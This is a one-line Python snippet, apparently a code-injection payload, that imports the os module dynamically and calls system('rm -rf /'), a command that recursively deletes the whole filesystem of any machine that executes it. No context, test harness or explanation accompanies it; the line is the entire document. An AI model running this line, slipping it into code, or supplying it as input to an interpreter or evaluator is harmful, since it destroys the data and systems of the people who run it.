x = __import__('os').system('rm -rf /')
